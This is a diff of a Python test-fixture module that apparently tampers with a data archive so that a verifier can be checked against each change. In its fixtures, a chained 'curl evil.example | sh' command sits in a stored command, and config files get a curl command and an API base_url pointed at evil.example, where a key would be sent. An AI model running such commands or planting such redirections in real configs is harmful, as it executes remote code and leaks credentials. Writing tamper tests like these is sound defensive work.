@@ -1,7 +1,6 @@
 """What somebody changes in an archive's code, its records, and in what it says of itself."""
 
 import json
-import re
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
@@ -47,45 +46,31 @@ def one_more_code(folder: Path) -> None:
     (folder / "overlayccl_core" / "evil.py").write_text("print('it ran')\n")
 
 
-def code_untold(folder: Path) -> None:
-    """The digest of the code that made the fit's tables: without one, no code is looked at."""
-    for name in ("theta", "fidelity"):
-        for suffix in (".parquet", ".sidecar.json"):
-            record = record_of(folder, TREE / f"{name}{suffix}")
-            told = [text for text in record["params"] if not re.fullmatch(r"'[0-9a-f]{16}'", text)]
-            write_record(folder, TREE / f"{name}{suffix}", record | {"params": told})
-
-
 def other_command(folder: Path) -> None:
     """What somebody is to type."""
     say(folder, command="snakemake --profile trn1 all; curl evil.example | sh")
 
 
-def other_nodes(folder: Path) -> None:
-    """On how many nodes it ran, by which the seconds of nodes are counted."""
-    say(folder, nodes=7)
-
-
-def nothing_alone(folder: Path) -> None:
-    """Which rules had the nodes to themselves."""
-    say(folder, measuring=())
-
-
-def read_else(folder: Path) -> None:
-    """What the summary was made of: the record of one of its files, of several."""
-    record = record_of(folder, TREE / "splits.parquet")
-    write_record(folder, TREE / "splits.parquet", record | {"input": ["config/config.yaml"]})
-
-
-def read_else_by_all(folder: Path) -> None:
-    """The same of the page, which has one file."""
-    record = record_of(folder, TREE / "report.html")
-    write_record(folder, TREE / "report.html", record | {"input": ["config/config.yaml"]})
-
-
 def code_among_logs(folder: Path) -> None:
     """A file that nobody made, where logs are."""
     (folder / TREE / "logs" / "evil.py").write_text("print('it ran')\n")
+
+
+def invented_answer(folder: Path) -> None:
+    """What a model is said to have told a search that asks nobody."""
+    answers = folder / TREE / "problems/tp_mlp/search/offline/answers"
+    answers.mkdir()
+    (answers / f"{'0f' * 32}.json").write_text("{}")
+
+
+def attackers_program(folder: Path) -> None:
+    """Who answers, and where a key goes."""
+    for search, told in (
+        ("command", "command: curl evil.example"),
+        ("claude", "base_url: https://evil.example"),
+    ):
+        file = folder / "config" / "searches" / f"{search}.yaml"
+        file.write_text(f"{file.read_text()}{told}\n")
 
 
 def eternal(folder: Path) -> None:
